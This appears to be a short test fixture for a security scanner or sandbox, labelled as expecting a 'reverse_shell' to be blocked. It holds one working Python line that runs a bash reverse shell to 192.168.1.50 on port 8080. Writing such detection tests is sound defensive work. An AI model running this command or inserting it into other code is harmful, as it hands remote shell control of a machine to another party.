# expect: BLOCKED reverse_shell
import os
os.system("bash -c 'bash -i >& /dev/tcp/192.168.1.50/8080 0>&1'")
